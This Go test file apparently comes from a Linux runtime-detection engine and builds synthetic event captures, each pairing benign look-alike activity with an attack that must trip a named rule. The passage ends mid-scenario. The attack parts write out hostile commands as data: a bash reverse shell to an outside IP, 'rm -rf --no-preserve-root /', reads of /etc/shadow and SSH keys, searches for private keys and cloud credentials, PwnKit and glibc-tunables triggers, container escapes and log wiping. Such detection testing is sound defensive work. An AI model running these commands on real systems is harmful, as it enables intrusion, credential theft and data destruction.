package scenario

import (
	"net/netip"

	"github.com/aerie-sec/aerie/engine/event"
)

// Scenario is the test capture of one rule: benign look-alike events that must raise nothing,
// then the attack, which raises Rule exactly Count times.
type Scenario struct {
	Name   string // capture file stem under testdata/
	Rule   string
	Count  int
	Benign func(b *Builder)
	Attack func(b *Builder)
}

// BenignName is the stem of the capture that joins every scenario's benign part.
const BenignName = "benign"

// Build returns the capture of s: its benign events, then its attack.
func (s Scenario) Build() ([]byte, error) {
	b := NewBuilder()
	s.Benign(b)
	s.Attack(b)
	return b.Encode()
}

// BuildBenign returns the capture holding the benign part of every scenario, in order.
func BuildBenign() ([]byte, error) {
	b := NewBuilder()
	for _, s := range All() {
		s.Benign(b)
	}
	return b.Encode()
}

func addr(s string) netip.AddrPort { return netip.MustParseAddrPort(s) }

var hostAddr = addr("192.168.10.5:41022")

// All returns the scenarios, one per rule, in rules-file order.
func All() []Scenario {
	return []Scenario{
		{
			Name: "password_store_read", Rule: "Password Store Read by Unexpected Program", Count: 2,
			Benign: func(b *Builder) {
				b.Open(TIDSshd, "/etc/shadow", ORdonly|OCloexec)
				pw := b.Spawn(TIDAliceBash, "/usr/bin/passwd", nil, AsUser(0))
				b.Open(pw, "/etc/shadow", ORdonly)
				b.Exit(pw)
				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/etc/passwd"})
				b.Open(cat, "/etc/passwd", ORdonly)
				b.Exit(cat)
				denied := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/etc/shadow"})
				b.OpenResult(denied, "/etc/shadow", ORdonly, -13) // EACCES: nothing was read
				b.Exit(denied)
				apt := b.Spawn(TIDRootBash, "/usr/bin/apt-get", []string{"install", "hostname"})
				sh := b.Spawn(apt, "/bin/sh", []string{"-c", "/usr/sbin/dpkg-preconfigure --apt"})
				pre := b.Spawn(sh, "/usr/sbin/dpkg-preconfigure", []string{"--apt"}, ExePath("/usr/bin/perl"))
				b.Open(pre, "/etc/shadow", ORdonly) // debconf, under apt
				b.Exit(pre)
				b.Exit(sh)
				b.Exit(apt)
			},
			Attack: func(b *Builder) {
				cat := b.Spawn(TIDRootBash, "/usr/bin/cat", []string{"/etc/shadow"})
				b.Open(cat, "/etc/shadow", ORdonly)
				b.Exit(cat)
				py := b.Spawn(TIDRootBash, "/usr/bin/python3", []string{"probe.py"})
				b.Open(py, "/etc/../etc/../etc/pam.d/common-auth", ORdonly) // traversal paths are resolved
				b.Exit(py)
			},
		},
		{
			Name: "ssh_key_read", Rule: "SSH Private Key Read by Unexpected Program", Count: 1,
			Benign: func(b *Builder) {
				ssh := b.Spawn(TIDAliceBash, "/usr/bin/ssh", []string{"git@example.org"})
				b.Open(ssh, "/home/alice/.ssh/id_ed25519", ORdonly)
				b.Exit(ssh)
				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{".ssh/id_ed25519.pub"})
				b.Open(cat, "/home/alice/.ssh/id_ed25519.pub", ORdonly)
				b.Exit(cat)
				b.Open(TIDSshd, "/etc/ssh/ssh_host_ed25519_key", ORdonly)
			},
			Attack: func(b *Builder) {
				py := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"-c", "import os"})
				b.Open(py, "/home/alice/.ssh/id_ed25519", ORdonly)
				b.Exit(py)
			},
		},
		{
			Name: "sensitive_link", Rule: "Link to Sensitive File Created", Count: 2,
			Benign: func(b *Builder) {
				ln := b.Spawn(TIDAliceBash, "/usr/bin/ln", []string{"-s", "/etc/hosts", "/tmp/hosts"})
				b.Call(ln, event.SyscallSymlinkatX, map[string]any{"res": 0, "target": "/etc/hosts", "linkdirfd": atFDCWD, "linkpath": "/tmp/hosts"})
				b.Exit(ln)
			},
			Attack: func(b *Builder) {
				ln := b.Spawn(TIDAliceBash, "/usr/bin/ln", []string{"-s", "/etc/shadow", "/tmp/s"})
				b.Call(ln, event.SyscallSymlinkatX, map[string]any{"res": 0, "target": "/etc/shadow", "linkdirfd": atFDCWD, "linkpath": "/tmp/s"})
				b.Exit(ln)
				hl := b.Spawn(TIDAliceBash, "/usr/bin/ln", []string{"/etc/sudoers", "/tmp/x"})
				b.Call(hl, event.SyscallLinkatV2X, map[string]any{"res": 0, "olddir": atFDCWD, "oldpath": "/etc/sudoers", "newdir": atFDCWD, "newpath": "/tmp/x"})
				b.Exit(hl)
			},
		},
		{
			Name: "server_shell", Rule: "Shell Started by Server Process", Count: 1,
			Benign: func(b *Builder) {
				sh := b.Spawn(TIDAliceBash, "/bin/sh", []string{"-c", "make"})
				b.Exit(sh)
				ls := b.Spawn(TIDNginx, "/usr/bin/logger", []string{"reloaded"})
				b.Exit(ls)
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDNginx, "/bin/sh", []string{"-c", "id; uname -a"}, NoTTY())
				b.Exit(sh)
			},
		},
		{
			Name: "memfd_exec", Rule: "Program Executed from Memory File", Count: 1,
			Benign: func(b *Builder) {
				py := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"job.py"})
				b.Call(py, event.SyscallMemfdCreateX, map[string]any{"fd": 3, "name": "buffer", "flags": 1})
				b.Exit(py)
			},
			Attack: func(b *Builder) {
				loader := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"loader.py"})
				b.Call(loader, event.SyscallMemfdCreateX, map[string]any{"fd": 3, "name": "x", "flags": 1})
				b.Exec(loader, "/proc/self/fd/3", []string{"-q"}, ExePath("/memfd:x (deleted)"), ExeFlags(4))
				b.Exit(loader)
			},
		},
		{
			Name: "ptrace_attach", Rule: "Process Attached or Written with Ptrace", Count: 1,
			Benign: func(b *Builder) {
				child := b.Spawn(TIDAliceBash, "/usr/bin/strace", []string{"ls"})
				b.Call(child, event.SyscallPtraceX, map[string]any{"res": 0, "request": 1, "pid": 0}) // PTRACE_TRACEME
				b.Exit(child)
				gdb := b.Spawn(TIDAliceBash, "/usr/bin/gdb", []string{"-p", "2000"})
				b.Call(gdb, event.SyscallPtraceX, map[string]any{"res": -1, "request": 11, "pid": TIDNginx}) // PTRACE_ATTACH, EPERM
				b.Exit(gdb)
			},
			Attack: func(b *Builder) {
				inj := b.Spawn(TIDRootBash, "/root/inject", []string{"2000"})
				b.Call(inj, event.SyscallPtraceX, map[string]any{"res": 0, "request": 11, "pid": TIDNginx}) // PTRACE_ATTACH
				b.Exit(inj)
			},
		},
		{
			Name: "process_vm_write", Rule: "Process Memory Written Without Ptrace", Count: 1,
			Benign: func(b *Builder) {
				spy := b.Spawn(TIDRootBash, "/usr/local/bin/py-spy", []string{"dump", "--pid", "3001"})
				b.Call(spy, event.SyscallProcessVmReadvX, map[string]any{"res": 4096, "pid": TIDAppInCtr, "data": "\x7fELF"}) // reading is not writing
				b.Exit(spy)
				denied := b.Spawn(TIDAliceBash, "/home/alice/poke", []string{"2000"})
				b.Call(denied, event.SyscallProcessVmWritevX, map[string]any{"res": -1, "pid": TIDNginx}) // EPERM: nothing written
				b.Exit(denied)
			},
			Attack: func(b *Builder) {
				inj := b.Spawn(TIDRootBash, "/root/inject", []string{"--vm-write", "2000"})
				b.Call(inj, event.SyscallProcessVmWritevX, map[string]any{"res": 64, "pid": TIDNginx, "data": "\x48\x31\xc0\x50\x48\xbb"})
				b.Exit(inj)
			},
		},
		{
			Name: "kernel_module", Rule: "Kernel Module Loaded", Count: 1,
			Benign: func(b *Builder) {
				b.Call(TIDUdevd, event.SyscallFinitModuleX, map[string]any{"res": 0, "fd": 9, "uargs": "", "flags": 0})
				mp := b.Spawn(TIDKworker, "/sbin/modprobe", []string{"-q", "--", "netdev-eth1"})
				b.Call(mp, event.SyscallFinitModuleX, map[string]any{"res": 0, "fd": 3, "uargs": "", "flags": 0})
				b.Exit(mp)
				fail := b.Spawn(TIDAliceBash, "/usr/sbin/insmod", []string{"x.ko"})
				b.Call(fail, event.SyscallFinitModuleX, map[string]any{"res": -1, "fd": 3, "uargs": "", "flags": 0})
				b.Exit(fail)
			},
			Attack: func(b *Builder) {
				ins := b.Spawn(TIDRootBash, "/usr/sbin/insmod", []string{"/tmp/diamorphine.ko"})
				b.Call(ins, event.SyscallFinitModuleX, map[string]any{"res": 0, "fd": 3, "uargs": "", "flags": 0})
				b.Exit(ins)
			},
		},
		{
			Name: "binary_dir_write", Rule: "Binary Directory Written", Count: 3,
			Benign: func(b *Builder) {
				dpkg := b.Spawn(TIDRootBash, "/usr/bin/dpkg", []string{"-i", "jq.deb"})
				b.Open(dpkg, "/usr/bin/jq.dpkg-new", OWronly|OCreat|OTrunc|FCreated)
				b.Call(dpkg, event.SyscallRenameX, map[string]any{"res": 0, "oldpath": "/usr/bin/jq.dpkg-new", "newpath": "/usr/bin/jq"})
				post := b.Spawn(dpkg, "/bin/sh", []string{"/var/lib/dpkg/info/jq.postinst", "configure"})
				b.Call(post, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/local/bin/jq.d", "mode": 0o755})
				b.Exit(post)
				b.Exit(dpkg)
				mv := b.Spawn(TIDAliceBash, "/usr/bin/mv", []string{"a", "b"})
				b.Call(mv, event.SyscallRenameat2X, map[string]any{"res": 0, "olddirfd": atFDCWD, "oldpath": "/home/alice/a", "newdirfd": atFDCWD, "newpath": "/home/alice/b", "flags": 0})
				b.Exit(mv)
				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"/usr/bin/ls"})
				b.Open(cat, "/usr/bin/ls", ORdonly)
				b.Exit(cat)
			},
			Attack: func(b *Builder) {
				cp := b.Spawn(TIDRootBash, "/usr/bin/cp", []string{"/tmp/x", "/usr/bin/sshd-helper"})
				b.Open(cp, "/usr/bin/sshd-helper", OWronly|OCreat|OTrunc|FCreated)
				b.Exit(cp)
				b.Call(TIDRootBash, event.SyscallMkdiratX, map[string]any{"res": 0, "dirfd": atFDCWD, "path": "/usr/bin/.cache", "mode": 0o755})
				mv := b.Spawn(TIDRootBash, "/usr/bin/mv", []string{"/tmp/ls", "/usr/bin/ls"})
				b.Call(mv, event.SyscallRenameat2X, map[string]any{"res": 0, "olddirfd": atFDCWD, "oldpath": "/tmp/ls", "newdirfd": atFDCWD, "newpath": "/usr/bin/ls", "flags": 0})
				b.Exit(mv)
			},
		},
		{
			Name: "setuid_bit", Rule: "Setuid or Setgid Bit Set", Count: 1,
			Benign: func(b *Builder) {
				ch := b.Spawn(TIDAliceBash, "/usr/bin/chmod", []string{"755", "/tmp/run.sh"})
				b.Call(ch, event.SyscallFchmodatX, map[string]any{"res": 0, "dirfd": atFDCWD, "filename": "/tmp/run.sh", "mode": 0o755})
				b.Exit(ch)
				dpkg := b.Spawn(TIDRootBash, "/usr/bin/dpkg", []string{"-i", "passwd.deb"})
				b.Call(dpkg, event.SyscallChmodX, map[string]any{"res": 0, "filename": "/usr/bin/passwd", "mode": 0o4755})
				b.Exit(dpkg)
			},
			Attack: func(b *Builder) {
				ch := b.Spawn(TIDRootBash, "/usr/bin/chmod", []string{"u+s", "/tmp/.sh"})
				b.Call(ch, event.SyscallFchmodatX, map[string]any{"res": 0, "dirfd": atFDCWD, "filename": "/tmp/.sh", "mode": 0o4755})
				b.Exit(ch)
			},
		},
		{
			Name: "log_cleared", Rule: "System Log Cleared", Count: 2,
			Benign: func(b *Builder) {
				lr := b.Spawn(TIDCrond, "/usr/sbin/logrotate", []string{"/etc/logrotate.conf"})
				b.Open(lr, "/var/log/syslog", OWronly|OTrunc)
				b.Call(lr, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": "/var/log/syslog.4.gz", "flags": 0})
				b.Exit(lr)
				b.Open(TIDNginx, "/var/log/nginx/access.log", OWronly|OAppend|OCreat)
				xorg := b.Spawn(TIDInit, "/usr/lib/xorg/Xorg", []string{":0"})
				b.Open(xorg, "/var/log/Xorg.0.log", OWronly|OCreat|OTrunc|FCreated) // after renaming the old log
				b.Exit(xorg)
				rm := b.Spawn(TIDAliceBash, "/usr/bin/rm", []string{"/tmp/old.txt"})
				b.Call(rm, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": "/tmp/old.txt", "flags": 0})
				b.Exit(rm)
			},
			Attack: func(b *Builder) {
				b.Open(TIDRootBash, "/var/log/wtmp", OWronly|OCreat|OTrunc) // > /var/log/wtmp
				b.Chdir(TIDRootBash, "/var/log")
				rm := b.Spawn(TIDRootBash, "/usr/bin/rm", []string{"-f", "auth.log"})
				b.Call(rm, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": "auth.log", "flags": 0})
				b.Exit(rm)
				b.Chdir(TIDRootBash, "/root")
			},
		},
		{
			Name: "shell_history_erased", Rule: "Shell History Erased", Count: 3,
			Benign: func(b *Builder) {
				b.Open(TIDAliceBash, "/home/alice/.bash_history", OWronly|OTrunc) // bash saving its history
				less := b.Spawn(TIDAliceBash, "/usr/bin/less", []string{".bash_history"})
				b.Open(less, "/home/alice/.bash_history", ORdonly)
				b.Exit(less)
				rm := b.Spawn(TIDAliceBash, "/usr/bin/rm", []string{".lesshst"})
				b.Call(rm, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": ".lesshst", "flags": 0})
				b.Exit(rm)
			},
			Attack: func(b *Builder) {
				rm := b.Spawn(TIDRootBash, "/usr/bin/rm", []string{".bash_history"})
				b.Call(rm, event.SyscallUnlinkatV2X, map[string]any{"res": 0, "dirfd": atFDCWD, "name": ".bash_history", "flags": 0})
				b.Exit(rm)
				ln := b.Spawn(TIDAliceBash, "/usr/bin/ln", []string{"-s", "/dev/null", ".zsh_history"})
				b.Call(ln, event.SyscallSymlinkatX, map[string]any{"res": 0, "target": "/dev/null", "linkdirfd": atFDCWD, "linkpath": ".zsh_history"})
				b.Exit(ln)
				cp := b.Spawn(TIDAliceBash, "/usr/bin/cp", []string{"/dev/null", ".bash_history"})
				b.Open(cp, "/home/alice/.bash_history", OWronly|OTrunc)
				b.Exit(cp)
			},
		},
		{
			Name: "reverse_shell", Rule: "Shell Opened Network Connection", Count: 1,
			Benign: func(b *Builder) {
				curl := b.Spawn(TIDAliceBash, "/usr/bin/curl", []string{"https://example.org/"})
				b.Connect(curl, hostAddr, addr("93.184.216.34:443"), 0)
				b.Exit(curl)
				b.Connect(TIDAliceBash, addr("127.0.0.1:40222"), addr("127.0.0.1:8080"), 0) // exec 3<>/dev/tcp/127.0.0.1/8080
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDAliceBash, "/bin/bash", []string{"-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"})
				b.Connect(sh, hostAddr, addr("203.0.113.7:4444"), 0)
				b.Exit(sh)
			},
		},
		{
			Name: "netcat_outbound", Rule: "Netcat-like Tool Connected Out", Count: 2,
			Benign: func(b *Builder) {
				// The socat port forwarder of the base state relays a client to the local sshd.
				fwd := b.Fork(TIDSocat)
				b.Connect(fwd, addr("127.0.0.1:40100"), addr("127.0.0.1:22"), 0)
				b.Exit(fwd)
				refused := b.Fork(TIDSocat)
				b.Connect(refused, hostAddr, addr("198.51.100.23:9001"), -111) // ECONNREFUSED
				b.Exit(refused)
			},
			Attack: func(b *Builder) {
				out := b.Fork(TIDSocat)
				b.Connect(out, hostAddr, addr("198.51.100.23:9001"), 0)
				b.Exit(out)
				out6 := b.Fork(TIDSocat)
				b.Connect(out6, addr("[2001:db8::10]:51000"), addr("[2001:db8::5]:443"), -115) // EINPROGRESS
				b.Exit(out6)
			},
		},
		{
			Name: "container_shell", Rule: "Interactive Shell in Container", Count: 1,
			Benign: func(b *Builder) {
				hc := b.Spawn(TIDAppInCtr, "/bin/sh", []string{"-c", "curl -fs localhost/health"})
				b.Exit(hc)
				bash := b.Spawn(TIDAliceBash, "/bin/bash", nil)
				b.Exit(bash)
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDAppInCtr, "/bin/bash", nil, OnTTY(TTYOther), AsUser(0))
				b.Exit(sh)
			},
		},
		{
			Name: "container_mount", Rule: "Filesystem Mounted in Container", Count: 1,
			Benign: func(b *Builder) {
				m := b.Spawn(TIDRootBash, "/usr/bin/mount", []string{"/dev/sdb1", "/mnt"})
				b.Call(m, event.SyscallMountX, map[string]any{"res": 0, "dev": "/dev/sdb1", "dir": "/mnt", "type": "ext4", "flags": 0})
				b.Exit(m)
				denied := b.Spawn(TIDAppInCtr, "/usr/bin/mount", []string{"-t", "proc", "proc", "/mnt"})
				b.Call(denied, event.SyscallMountX, map[string]any{"res": -1, "dev": "proc", "dir": "/mnt", "type": "proc", "flags": 0}) // EPERM
				b.Exit(denied)
			},
			Attack: func(b *Builder) {
				m := b.Spawn(TIDAppInCtr, "/usr/bin/mount", []string{"/dev/sda1", "/mnt"})
				b.Call(m, event.SyscallMountX, map[string]any{"res": 0, "dev": "/dev/sda1", "dir": "/mnt", "type": "ext4", "flags": 0})
				b.Exit(m)
			},
		},
		{
			Name: "container_fsmount", Rule: "Filesystem Created with Mount API in Container", Count: 1,
			Benign: func(b *Builder) {
				// systemd prepares its mounts with the new API on the host; in the container a refused attempt
				b.Call(TIDInit, event.SyscallFsconfigX, map[string]any{"res": 0, "fd": 40, "cmd": 6})
				denied := b.Spawn(TIDAppInCtr, "/usr/local/bin/mounter", nil)
				b.Call(denied, event.SyscallFsconfigX, map[string]any{"res": 0, "fd": 3, "cmd": 1, "key": "source", "value_charbuf": "/dev/sda1"})
				b.Call(denied, event.SyscallFsconfigX, map[string]any{"res": -1, "fd": 3, "cmd": 6}) // EPERM
				b.Exit(denied)
			},
			Attack: func(b *Builder) {
				m := b.Spawn(TIDAppInCtr, "/usr/local/bin/mounter", nil)
				b.Call(m, event.SyscallFsconfigX, map[string]any{"res": 0, "fd": 3, "cmd": 1, "key": "source", "value_charbuf": "/dev/sda1"})
				b.Call(m, event.SyscallFsconfigX, map[string]any{"res": 0, "fd": 3, "cmd": 6}) // FSCONFIG_CMD_CREATE
				b.Exit(m)
			},
		},
		{
			Name: "container_open_by_handle", Rule: "File Opened by Handle in Container", Count: 2,
			Benign: func(b *Builder) {
				nfs := b.Spawn(TIDInit, "/usr/bin/ganesha.nfsd", []string{"-F"})
				b.Call(nfs, event.SyscallOpenByHandleAtX, map[string]any{"fd": 7, "mountfd": 5, "flags": ORdonly, "path": "/srv/export/a.txt",
					"dev": 0x803, "ino": uint64(131)})
				b.Exit(nfs)
			},
			Attack: func(b *Builder) {
				// shocker: guessed handles fail until one names a host file
				b.Call(TIDAppInCtr, event.SyscallOpenByHandleAtX, map[string]any{"fd": -116, "mountfd": 3, "flags": ORdonly}) // ESTALE
				b.Call(TIDAppInCtr, event.SyscallOpenByHandleAtX, map[string]any{"fd": 4, "mountfd": 3, "flags": ORdonly, "path": "/etc/shadow",
					"dev": 0x803, "ino": uint64(1049)})
			},
		},
		{
			Name: "runtime_socket", Rule: "Container Runtime Socket Used from Container", Count: 1,
			Benign: func(b *Builder) {
				docker := b.Spawn(TIDRootBash, "/usr/bin/docker", []string{"ps"})
				b.ConnectUnix(docker, "/var/run/docker.sock")
				b.Exit(docker)
				b.ConnectUnix(TIDAppInCtr, "/tmp/app.sock")
			},
			Attack: func(b *Builder) {
				py := b.Spawn(TIDAppInCtr, "/usr/local/bin/python3", []string{"-c", "import docker; docker.from_env().containers.run('alpine', privileged=True)"})
				b.ConnectUnix(py, "/var/run/docker.sock")
				b.Exit(py)
			},
		},
		{
			Name: "traversal_read", Rule: "System File Reached Through Path Traversal", Count: 1,
			Benign: func(b *Builder) {
				b.Open(TIDNginx, "/etc/nginx/../nginx/nginx.conf", ORdonly) // one climb, back into /etc/nginx
				b.Chdir(TIDAliceBash, "/home/alice/src/app")
				cat := b.Spawn(TIDAliceBash, "/usr/bin/cat", []string{"../../notes.txt"})
				b.Open(cat, "../../notes.txt", ORdonly)
				b.Exit(cat)
				b.Chdir(TIDAliceBash, "/home/alice")
			},
			Attack: func(b *Builder) {
				b.Chdir(TIDNginx, "/var/www/html")
				b.Open(TIDNginx, "../../../etc/hosts", ORdonly)
				b.Chdir(TIDNginx, "/")
			},
		},
		{
			Name: "secret_search", Rule: "Search for Private Keys or Cloud Credentials", Count: 3,
			Benign: func(b *Builder) {
				f := b.Spawn(TIDAliceBash, "/usr/bin/find", []string{".", "-name", "*.go"})
				b.Exit(f)
				g := b.Spawn(TIDAliceBash, "/usr/bin/grep", []string{"-r", "TODO", "src"})
				b.Exit(g)
				ssh := b.Spawn(TIDAliceBash, "/usr/bin/ssh-keygen", []string{"-f", ".ssh/id_rsa", "-y"})
				b.Exit(ssh)
			},
			Attack: func(b *Builder) {
				f := b.Spawn(TIDNginx, "/usr/bin/find", []string{"/", "-name", "id_rsa"})
				b.Exit(f)
				g := b.Spawn(TIDNginx, "/usr/bin/grep", []string{"-rl", "BEGIN OPENSSH PRIVATE KEY", "/home"})
				b.Exit(g)
				a := b.Spawn(TIDNginx, "/usr/bin/find", []string{"/", "-path", "*.aws/credentials"})
				b.Exit(a)
			},
		},
		{
			Name: "database_child", Rule: "Program Started by Database Server", Count: 2,
			Benign: func(b *Builder) {
				safe := b.Spawn(TIDInit, "/usr/bin/mysqld_safe", nil, AsUser(0), NoTTY())
				db := b.Spawn(safe, "/usr/sbin/mysqld", []string{"--basedir=/usr"}, AsUser(106))
				worker := b.Fork(db)
				b.Exit(worker)
				b.Exit(safe)
			},
			Attack: func(b *Builder) {
				db := b.Spawn(TIDInit, "/usr/lib/postgresql/15/bin/postgres", []string{"-D", "/var/lib/postgresql/15/main"}, AsUser(105), NoTTY())
				sh := b.Spawn(db, "/bin/sh", []string{"-c", "id"})
				b.Exit(sh)
				my := b.Spawn(TIDInit, "/usr/sbin/mysqld", nil, AsUser(106), NoTTY())
				ls := b.Spawn(my, "/usr/bin/ls", []string{"/"})
				b.Exit(ls)
			},
		},
		{
			Name: "cryptominer", Rule: "Cryptocurrency Miner Started", Count: 2,
			Benign: func(b *Builder) {
				top := b.Spawn(TIDAliceBash, "/usr/bin/top", nil)
				b.Exit(top)
				curl := b.Spawn(TIDAliceBash, "/usr/bin/curl", []string{"https://example.org/stratum-protocol.html"})
				b.Exit(curl)
			},
			Attack: func(b *Builder) {
				x := b.Spawn(TIDNginx, "/var/www/.cache/xmrig", []string{"--donate-level", "1"})
				b.Exit(x)
				k := b.Spawn(TIDAppInCtr, "/app/kthreadd", []string{"-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"})
				b.Exit(k)
			},
		},
		{
			Name: "data_destruction", Rule: "Data Destruction Tool Run", Count: 2,
			Benign: func(b *Builder) {
				lr := b.Spawn(TIDCrond, "/usr/sbin/logrotate", []string{"/etc/logrotate.conf"})
				sh := b.Spawn(lr, "/usr/bin/shred", []string{"-u", "/var/log/secure.4"})
				b.Exit(sh)
				b.Exit(lr)
				rm := b.Spawn(TIDAliceBash, "/usr/bin/rm", []string{"-rf", "build"})
				b.Exit(rm)
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDRootBash, "/usr/bin/shred", []string{"-n", "3", "-zu", "/var/lib/mysql/ibdata1"})
				b.Exit(sh)
				rm := b.Spawn(TIDRootBash, "/usr/bin/rm", []string{"-rf", "--no-preserve-root", "/"})
				b.Exit(rm)
			},
		},
		{
			Name: "dev_shm_exec", Rule: "Program Executed from Shared Memory", Count: 3,
			Benign: func(b *Builder) {
				ls := b.Spawn(TIDAliceBash, "/usr/bin/ls", []string{"/dev/shm"})
				b.Exit(ls)
				rm := b.Spawn(TIDAliceBash, "/usr/bin/rm", []string{"/dev/shm/sem.build"})
				b.Exit(rm)
			},
			Attack: func(b *Builder) {
				x := b.Spawn(TIDNginx, "/dev/shm/.x/kswapd", nil)
				b.Exit(x)
				sh := b.Spawn(TIDAliceBash, "/bin/sh", []string{"/dev/shm/run.sh"})
				b.Exit(sh)
				py := b.Spawn(TIDAliceBash, "/usr/bin/python3", []string{"/dev/shm/x.py"})
				b.Exit(py)
			},
		},
		{
			Name: "glibc_tunables_setuid", Rule: "Glibc Tunables Passed to Setuid Program", Count: 2,
			Benign: func(b *Builder) {
				su := b.Spawn(TIDAliceBash, "/usr/bin/su", []string{"-"}, AsUser(0))
				b.Exit(su)
			},
			Attack: func(b *Builder) {
				su := b.Spawn(TIDAliceBash, "/usr/bin/su", []string{"--help"}, AsUser(0),
					Env("GLIBC_TUNABLES=glibc.tunables=glibc.malloc.mxfast=glibc.malloc.mxfast=A"))
				b.Exit(su)
				ls := b.Spawn(TIDAliceBash, "/usr/bin/ls", nil, Env("GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A"))
				b.Exit(ls)
			},
		},
		{
			Name: "sudoedit_backslash", Rule: "Sudoedit Started with Trailing Backslash", Count: 2,
			Benign: func(b *Builder) {
				s := b.Spawn(TIDAliceBash, "/usr/bin/sudo", []string{"-i"}, AsUser(0))
				b.Exit(s)
				e := b.Spawn(TIDAliceBash, "/usr/bin/sudoedit", []string{"/etc/hosts"}, AsUser(0))
				b.Exit(e)
				w := b.Spawn(TIDAliceBash, "/usr/bin/sudo", []string{"sh", "-c", `printf 'a\\b'`}, AsUser(0))
				b.Exit(w)
			},
			Attack: func(b *Builder) {
				e := b.Spawn(TIDAliceBash, "/usr/bin/sudoedit", []string{"-s", `\`}, AsUser(0))
				b.Exit(e)
				f := b.Spawn(TIDAliceBash, "/usr/bin/sudoedit", []string{"-s", `AAAA\`, "BBBB"}, AsUser(0))
				b.Exit(f)
			},
		},
		{
			Name: "pkexec_empty_argv", Rule: "Pkexec Started Without Arguments", Count: 1,
			Benign: func(b *Builder) {
				pk := b.Spawn(TIDAliceBash, "/usr/bin/pkexec", []string{"/usr/sbin/reboot"}, AsUser(0))
				b.Exit(pk)
			},
			Attack: func(b *Builder) {
				pk := b.Spawn(TIDAliceBash, "/usr/bin/pkexec", nil, AsUser(0), Argv0(""), Env("PATH=GCONV_PATH=.", "CHARSET=PWNKIT"))
				b.Exit(pk)
			},
		},
		{
			Name: "userfaultfd", Rule: "Unprivileged Userfaultfd Created", Count: 2,
			Benign: func(b *Builder) {
				criu := b.Spawn(TIDRootBash, "/usr/sbin/criu", []string{"restore", "--lazy-pages"})
				b.Call(criu, event.SyscallUserfaultfdX, map[string]any{"res": 5, "flags": 0})
				b.Exit(criu)
			},
			Attack: func(b *Builder) {
				x := b.Spawn(TIDAliceBash, "/home/alice/exp", nil)
				b.Call(x, event.SyscallUserfaultfdX, map[string]any{"res": 3, "flags": 0})
				b.Call(x, event.SyscallUserfaultfdX, map[string]any{"res": -1, "flags": 0}) // EPERM still counts
				b.Exit(x)
			},
		},
		{
			Name: "release_agent", Rule: "Cgroup Release Agent Written", Count: 1,
			Benign: func(b *Builder) {
				b.Open(TIDInit, "/sys/fs/cgroup/systemd/release_agent", OWronly)
				cat := b.Spawn(TIDRootBash, "/usr/bin/cat", []string{"/sys/fs/cgroup/memory/release_agent"})
				b.Open(cat, "/sys/fs/cgroup/memory/release_agent", ORdonly)
				b.Exit(cat)
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDAppInCtr, "/bin/sh", []string{"-c", "echo /cmd > /tmp/cgrp/release_agent"}, AsUser(0))
				b.Open(sh, "/tmp/cgrp/release_agent", OWronly|OCreat|OTrunc)
				b.Exit(sh)
			},
		},
		{
			Name: "system_account_interactive", Rule: "Interactive Session of System Account", Count: 3,
			Benign: func(b *Builder) {
				sh := b.Spawn(TIDNginx, "/usr/bin/find", []string{"/var/cache/nginx", "-mmin", "+60"})
				b.Exit(sh)
				bash := b.Spawn(TIDAliceBash, "/bin/bash", nil) // alice (uid 1000) on her terminal
				b.Exit(bash)
				login := b.Spawn(TIDInit, "/bin/login", []string{"-p", "--"}, AsUser(0), OnTTY(TTYOther))
				b.Exit(login)
				app := b.Spawn(TIDAppInCtr, "/bin/sh", []string{"-c", "python3 worker.py"}, AsUser(999))
				b.Exit(app)
			},
			Attack: func(b *Builder) {
				sh := b.Spawn(TIDRootBash, "/bin/bash", []string{"-i"}, AsUser(33))
				b.Exit(sh)
				login := b.Spawn(TIDNginx, "/bin/login", nil)
				b.Exit(login)
				ctr := b.Spawn(TIDAppInCtr, "/bin/login", []string{"-f", "daemon"}, AsUser(1))
				b.Exit(ctr)
			},
		},
		{
			Name: "account_management", Rule: "Account Management Program Run", Count: 2,
			Benign: func(b *Builder) {
				pw := b.Spawn(TIDAliceBash, "/usr/bin/passwd", nil, AsUser(0))
				b.Exit(pw)
				apt := b.Spawn(TIDRootBash, "/usr/bin/apt-get", []string{"install", "postgresql"})
				dpkg := b.Spawn(apt, "/usr/bin/dpkg", []string{"--configure", "-a"})
				post := b.Spawn(dpkg, "/bin/sh", []string{"/var/lib/dpkg/info/postgresql-common.postinst", "configure"})
				add := b.Spawn(post, "/usr/sbin/adduser", []string{"--system", "postgres"})
				b.Exit(add)
				b.Exit(post)
				b.Exit(dpkg)
				b.Exit(apt)
				st := b.Spawn(TIDRootBash, "/usr/bin/passwd", []string{"-S", "alice"})
				b.Exit(st)
			},
			Attack: func(b *Builder) {
				ua := b.Spawn(TIDRootBash, "/usr/sbin/useradd", []string{"-o", "-u", "0", "-g", "0", "sysadm"})
				b.Exit(ua)
				cp := b.Spawn(TIDRootBash, "/usr/sbin/chpasswd", nil)
				b.Exit(cp)
			},
		},
		{
			Name: "dev_file_created", Rule: "File Created Below /dev", Count: 2,
			Benign: func(b *Builder) {
				b.Open(TIDAliceBash, "/dev/null", OWronly|OCreat|OTrunc) // > /dev/null
				b.Open(TIDAliceBash, "/dev/shm/sem.build", ORdwr|OCreat|FCreated)
				b.Open(TIDUdevd, "/dev/.udev-probe", OWronly|OCreat|FCreated)
			},
			Attack: func(b *Builder) {
				b.Open(TIDRootBash, "/dev/.lib", OWronly|OCreat|OTrunc|FCreated)
